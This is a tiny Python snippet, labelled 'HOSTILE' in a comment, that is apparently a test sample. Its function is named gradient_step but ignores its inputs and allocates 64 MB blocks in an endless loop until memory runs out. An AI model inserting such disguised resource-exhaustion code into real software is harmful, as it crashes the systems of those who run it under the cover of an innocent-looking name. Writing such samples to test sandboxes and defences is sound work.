# HOSTILE: allocates memory until something stops it.
def gradient_step(v, gradient, step_size):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
